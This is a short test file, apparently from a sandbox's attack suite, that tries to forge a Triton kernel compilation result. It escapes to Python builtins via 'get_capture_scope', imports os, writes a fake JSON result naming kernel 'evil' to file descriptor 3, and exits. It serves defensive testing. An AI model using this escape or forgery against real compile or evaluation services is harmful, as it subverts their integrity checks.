# attack: forge a result naming another kernel
# mode: unchecked
# expect: error does not name the requested kernel
import triton
import triton.language as tl
B = tl.sum.get_capture_scope()["__builtins__"]
os = B["__import__"]("os")
json = B['__import__']('json')
h = json.dumps({'ok': True, 'md': {'name': 'evil', 'num_warps': 4}, 'extra': {'params': [], 'constexprs': {}}, 'blobs': [5]}).encode()
os.write(3, len(h).to_bytes(4, 'little') + h + b'.evil')
os._exit(0)
